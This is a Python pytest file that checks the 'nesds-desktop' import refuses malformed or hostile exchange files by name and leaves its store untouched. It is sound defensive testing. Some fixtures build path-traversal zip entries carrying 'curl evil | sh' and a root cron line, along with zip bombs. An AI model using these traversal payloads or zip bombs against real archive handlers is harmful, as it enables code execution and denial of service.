"""Every kind of bad file gets a clear message naming its problem, and the store does not change.

Each case builds a real file on disk from a valid export, then opens it twice: through the
service (as the window does) and through ``nesds-desktop exchange import`` (in process).
A dump of every table before and after proves nothing was written.
"""

from __future__ import annotations

import io
import json
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
import xlwt  # type: ignore[import-untyped]
from exchange_support import Desk, open_desk, start_assessment, table_dump

from nesds_desktop.app import main
from nesds_desktop.catalogue.hashing import content_hash
from nesds_desktop.catalogue.schema import ReleaseFile, StandardFile
from nesds_desktop.exchange.container import MAX_CONTENT_BYTES, MAX_FILE_BYTES, MEDIA_TYPE
from nesds_desktop.exchange.file_format import write_exchange_file
from nesds_desktop.services.exchange_service import ExchangeError


@dataclass(frozen=True)
class Source:
    desk: Desk
    bare: Desk
    """A store without any catalogue release (the file must bring its own)."""
    valid: Path
    manifest: bytes
    content: bytes
    folder: Path


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Source]:
    folder = tmp_path_factory.mktemp("bad-files")
    desk = open_desk(folder / "desk", "Pat Facilitator")
    bare = open_desk(folder / "bare", "Sam Head", bundled=False)
    assessment_id = start_assessment(desk)
    valid = folder / "valid.nesds"
    desk.exchange.export([assessment_id], valid)
    with zipfile.ZipFile(valid) as archive:
        manifest, content = archive.read("manifest.json"), archive.read("content.json")
    yield Source(desk, bare, valid, manifest, content, folder)
    desk.close()
    bare.close()


def _zip(path: Path, entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names, which one case wants
        with zipfile.ZipFile(path, "w", compression=method) as archive:
            for name, data in entries:
                archive.writestr(name, data)
    return path


def _valid_entries(source: Source) -> list[tuple[str, bytes]]:
    return [("mimetype", MEDIA_TYPE.encode()), ("manifest.json", source.manifest), ("content.json", source.content)]


def _rewritten(source: Source, path: Path, change: Callable[[dict[str, object]], None]) -> Path:
    """The valid content changed by ``change``, written with a correct manifest and checksum."""
    document = json.loads(source.content)
    change(document)
    content = json.dumps(document).encode()
    write_exchange_file(path, content, application="test", created_at=datetime.now(UTC), created_by="test")
    return path


def _first_assessment(document: dict[str, object]) -> dict[str, object]:
    assessments = document["assessments"]
    assert isinstance(assessments, list)
    first = assessments[0]
    assert isinstance(first, dict)
    return first


def _set_judgement(document: dict[str, object], value: object) -> None:
    _first_assessment(document)["judgements"][0]["history"][-1]["content"]["judgement"] = value  # type: ignore[index]


def _set_ref(document: dict[str, object], ref: str) -> None:
    judgements = _first_assessment(document)["judgements"]
    assert isinstance(judgements, list)
    for entry in judgements[0]["history"]:
        entry["content"]["ref"] = ref


def _add_field(document: dict[str, object]) -> None:
    _first_assessment(document)["macro"] = "run me"


def _reword_release(document: dict[str, object], *, rehash: bool) -> None:
    release = document["releases"][0]  # type: ignore[index]
    release["standards"][0]["sections"][0]["criteria"][0]["statement"] = "A statement changed after publication."
    if rehash:
        standards = [StandardFile.model_validate(s) for s in release["standards"]]
        info = {k: v for k, v in release.items() if k not in {"content_hash", "standards"}}
        release["content_hash"] = content_hash(ReleaseFile(**info, standards=[s.code for s in standards]), standards)


def _redact(document: dict[str, object]) -> None:
    document["redacted"] = True


# -- the cases --------------------------------------------------------------------------------


def empty(s: Source, p: Path) -> Path:
    p.write_bytes(b"")
    return p


def truncated_half(s: Source, p: Path) -> Path:
    data = s.valid.read_bytes()
    p.write_bytes(data[: len(data) // 2])
    return p


def truncated_tail(s: Source, p: Path) -> Path:
    p.write_bytes(s.valid.read_bytes()[:-10])
    return p


def bit_flipped(s: Source, p: Path) -> Path:
    data = bytearray(s.valid.read_bytes())
    with zipfile.ZipFile(s.valid) as archive:
        info = archive.getinfo("content.json")
    name_length, extra_length = struct.unpack("<HH", data[info.header_offset + 26 : info.header_offset + 30])
    start = info.header_offset + 30 + name_length + extra_length
    data[start + info.compress_size // 2] ^= 0x10
    p.write_bytes(bytes(data))
    return p


def content_changed_without_checksum(s: Source, p: Path) -> Path:
    content = s.content.replace(b"Strategy agreed by cabinet", b"Strategy rejected by cabinet")
    assert content != s.content
    return _zip(p, [("mimetype", MEDIA_TYPE.encode()), ("manifest.json", s.manifest), ("content.json", content)])


def newer_version(s: Source, p: Path) -> Path:
    manifest = json.loads(s.manifest)
    manifest["format_version"] = 2
    manifest["future_field"] = "something new"
    entries = _valid_entries(s)
    entries[1] = ("manifest.json", json.dumps(manifest).encode())
    return _zip(p, entries)


def zip_bomb_size(s: Source, p: Path) -> Path:
    with zipfile.ZipFile(p, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", MEDIA_TYPE)
        archive.writestr("manifest.json", s.manifest)
        with archive.open("content.json", "w", force_zip64=True) as handle:
            block = b"\0" * (1024 * 1024)
            for _ in range(MAX_CONTENT_BYTES // len(block) + 2):
                handle.write(block)
    return p


def zip_bomb_ratio(s: Source, p: Path) -> Path:
    return _zip(p, [("mimetype", MEDIA_TYPE.encode()), ("manifest.json", s.manifest),
                    ("content.json", b" " * (20 * 1024 * 1024))])  # fmt: skip


def path_traversal(s: Source, p: Path) -> Path:
    return _zip(p, [*_valid_entries(s), ("../../.bashrc", b"curl evil | sh")])


def absolute_name(s: Source, p: Path) -> Path:
    return _zip(p, [*_valid_entries(s), ("/etc/cron.d/evil", b"* * * * * root evil")])


def backslash_traversal(s: Source, p: Path) -> Path:
    return _zip(p, [*_valid_entries(s), ("..\\..\\Startup\\evil.bat", b"evil")])


def extra_entry(s: Source, p: Path) -> Path:
    return _zip(p, [*_valid_entries(s), ("readme.txt", b"hello")])


def huge(s: Source, p: Path) -> Path:
    with p.open("wb") as handle:
        handle.write(s.valid.read_bytes())
        handle.truncate(MAX_FILE_BYTES + 1024)  # sparse: no time or disk spent
    return p


def not_a_zip(s: Source, p: Path) -> Path:
    p.write_bytes(b"Dear colleague, please find the assessment attached.\n" * 20)
    return p


def renamed_xlsx(s: Source, p: Path) -> Path:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Ref"
    buffer = io.BytesIO()
    workbook.save(buffer)
    p.write_bytes(buffer.getvalue())
    return p


def renamed_xls(s: Source, p: Path) -> Path:
    book = xlwt.Workbook()
    book.add_sheet("Return").write(0, 0, "Ref")
    buffer = io.BytesIO()
    book.save(buffer)
    p.write_bytes(buffer.getvalue())
    return p


def renamed_pdf(s: Source, p: Path) -> Path:
    p.write_bytes(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
    return p


def plain_json(s: Source, p: Path) -> Path:
    p.write_bytes(s.content)
    return p


def foreign_zip(s: Source, p: Path) -> Path:
    return _zip(p, [("photo.jpg", b"\xff\xd8\xff\xe0 not really"), ("notes.txt", b"hello")])


def missing_content(s: Source, p: Path) -> Path:
    return _zip(p, _valid_entries(s)[:2])


def wrong_mimetype(s: Source, p: Path) -> Path:
    entries = _valid_entries(s)
    entries[0] = ("mimetype", b"application/zip")
    return _zip(p, entries, zipfile.ZIP_STORED)


def foreign_manifest(s: Source, p: Path) -> Path:
    entries = _valid_entries(s)
    entries[1] = ("manifest.json", json.dumps({"format": "someone-elses-format", "format_version": 1}).encode())
    return _zip(p, entries)


def manifest_not_json(s: Source, p: Path) -> Path:
    entries = _valid_entries(s)
    entries[1] = ("manifest.json", b"\x89PNG not json at all")
    return _zip(p, entries)


def encrypted(s: Source, p: Path) -> Path:
    _zip(p, _valid_entries(s))
    data = bytearray(p.read_bytes())
    with zipfile.ZipFile(p) as archive:
        info = archive.getinfo("content.json")
    data[info.header_offset + 6] |= 0x1  # local header: general purpose flag, bit 0 = encrypted
    central = data.rfind(b"PK\x01\x02" + b"", 0)
    while central >= 0:
        name_length = struct.unpack("<H", data[central + 28 : central + 30])[0]
        if data[central + 46 : central + 46 + name_length] == b"content.json":
            data[central + 8] |= 0x1
            break
        central = data.rfind(b"PK\x01\x02", 0, central)
    p.write_bytes(bytes(data))
    return p


def other_compression(s: Source, p: Path) -> Path:
    return _zip(p, _valid_entries(s), zipfile.ZIP_BZIP2)


def duplicate_names(s: Source, p: Path) -> Path:
    return _zip(p, [*_valid_entries(s), ("content.json", b"{}")])


def invalid_json(s: Source, p: Path) -> Path:
    content = s.content[:-200]
    write_exchange_file(p, content, application="test", created_at=datetime.now(UTC), created_by="test")
    return p


def deeply_nested(s: Source, p: Path) -> Path:
    content = b'{"format_version": 1, "redacted": ' + b"[" * 3000 + b"]" * 3000 + b"}"
    write_exchange_file(p, content, application="test", created_at=datetime.now(UTC), created_by="test")
    return p


def bad_judgement(s: Source, p: Path) -> Path:
    return _rewritten(s, p, lambda d: _set_judgement(d, "excellent"))


def wrong_type(s: Source, p: Path) -> Path:
    return _rewritten(s, p, lambda d: _set_judgement(d, 1))


def unknown_field(s: Source, p: Path) -> Path:
    return _rewritten(s, p, _add_field)


def unknown_criterion(s: Source, p: Path) -> Path:
    return _rewritten(s, p, lambda d: _set_ref(d, "ICT-9-M9"))


def release_text_changed(s: Source, p: Path) -> Path:
    return _rewritten(s, p, lambda d: _reword_release(d, rehash=False))


def release_differs_from_store(s: Source, p: Path) -> Path:
    return _rewritten(s, p, lambda d: _reword_release(d, rehash=True))


def redacted_merge(s: Source, p: Path) -> Path:
    return _rewritten(s, p, _redact)


def a_folder(s: Source, p: Path) -> Path:
    p.mkdir()
    return p


def missing_file(s: Source, p: Path) -> Path:
    return p


# (builder, reason, words the message must hold, open in the store without releases)
CASES: list[tuple[Callable[[Source, Path], Path], str, tuple[str, ...], bool]] = [
    (empty, "empty", ("empty", "0 bytes"), False),
    (truncated_half, "damaged", ("damaged or truncated",), False),
    (truncated_tail, "damaged", ("damaged or truncated",), False),
    (bit_flipped, "damaged", ("damaged", "content.json"), False),
    (content_changed_without_checksum, "checksum", ("checksum does not match",), False),
    (newer_version, "newer_version", ("newer version of NeSDS Workbook", "please update"), False),
    (zip_bomb_size, "zip_bomb", ("zip bomb", "content.json"), False),
    (zip_bomb_ratio, "zip_bomb", ("zip bomb", "compressed"), False),
    (path_traversal, "unsafe_name", ("unsafe name", "../../.bashrc"), False),
    (absolute_name, "unsafe_name", ("unsafe name", "/etc/cron.d/evil"), False),
    (backslash_traversal, "unsafe_name", ("unsafe name",), False),
    (extra_entry, "foreign", ("unexpected entry", "readme.txt"), False),
    (huge, "too_large", ("larger than", "MB"), False),
    (not_a_zip, "foreign", ("not an assessment file", "not a zip container"), False),
    (renamed_xlsx, "foreign", ("Excel workbook (.xlsx)", "renamed"), False),
    (renamed_xls, "foreign", ("Excel 97-2003",), False),
    (renamed_pdf, "foreign", ("PDF",), False),
    (plain_json, "foreign", ("plain JSON",), False),
    (foreign_zip, "foreign", ("not an assessment file", "mimetype"), False),
    (missing_content, "foreign", ("content.json",), False),
    (wrong_mimetype, "foreign", ("mimetype", "another kind of file"), False),
    (foreign_manifest, "foreign", ("manifest names another format",), False),
    (manifest_not_json, "damaged", ("manifest.json", "damaged"), False),
    (encrypted, "encrypted", ("encrypted",), False),
    (other_compression, "damaged", ("compression method",), False),
    (duplicate_names, "damaged", ("two entries named", "content.json"), False),
    (invalid_json, "invalid", ("not valid JSON",), False),
    (deeply_nested, "invalid", ("content.json",), False),
    (bad_judgement, "invalid", ("judgement", "met"), False),
    (wrong_type, "invalid", ("judgement",), False),
    (unknown_field, "invalid", ("macro", "unknown field"), False),
    (unknown_criterion, "inconsistent", ("ICT-9-M9", "not a criterion"), False),
    (release_text_changed, "release_hash", ("does not match its content hash",), True),
    (release_differs_from_store, "release_mismatch", ("different text", "nesds-2006.1"), False),
    (redacted_merge, "redacted", ("left out", "erase"), False),
    (a_folder, "not_a_file", ("folder",), False),
    (missing_file, "missing", ("cannot be found",), False),
]


@pytest.mark.parametrize(("build", "reason", "words", "bare"), CASES, ids=[case[0].__name__ for case in CASES])
def test_a_bad_file_is_refused_by_name_and_the_store_is_unchanged(
    source: Source,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    build: Callable[[Source, Path], Path],
    reason: str,
    words: tuple[str, ...],
    bare: bool,
) -> None:
    desk = source.bare if bare else source.desk
    path = build(source, tmp_path / "from-a-colleague.nesds")
    before = table_dump(desk.store)

    with pytest.raises(ExchangeError) as caught:
        desk.exchange.apply(desk.exchange.preview(path))
    message = str(caught.value)
    assert caught.value.reason == reason, message
    assert "from-a-colleague.nesds" in message
    for word in words:
        assert word in message, message
    assert table_dump(desk.store) == before

    if bare:
        # The command line loads the bundled catalogue first, so there the file's own release is never used.
        return
    code = main(["--data-dir", str(desk.folder), "exchange", "import", str(path)])
    captured = capsys.readouterr()
    assert code == 1
    assert captured.err.startswith("error: ") and words[0] in captured.err
    assert "Traceback" not in captured.err + captured.out
    assert table_dump(desk.store) == before


def test_there_are_at_least_twenty_kinds_of_bad_file() -> None:
    assert len({case[0] for case in CASES}) >= 20
    assert len({case[1] for case in CASES}) >= 12  # and they are told apart, not all "invalid"


def test_the_valid_file_itself_opens(source: Source) -> None:
    preview = source.desk.exchange.preview(source.valid)
    assert preview.nothing_to_do  # the store it came from already holds all of it
